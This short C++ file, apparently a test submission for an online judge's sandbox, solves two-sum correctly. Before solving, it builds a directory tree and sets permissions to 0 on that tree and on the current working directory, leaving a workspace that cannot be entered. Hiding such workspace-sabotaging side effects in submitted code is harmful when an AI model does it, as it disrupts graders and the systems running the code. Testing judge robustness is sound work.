// Leaves a tree that cannot be entered.
// verdict: accepted
#include <sys/stat.h>

class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        filesystem::create_directories("a/b/c");
        ofstream("a/b/c/file") << 1;
        chmod("a/b/c", 0);
        chmod("a/b", 0);
        chmod(".", 0);
        for (int i = 0; i < (int)nums.size(); ++i)
            for (int j = i + 1; j < (int)nums.size(); ++j)
                if (nums[i] + nums[j] == target) return {i, j};
        return {};
    }
};
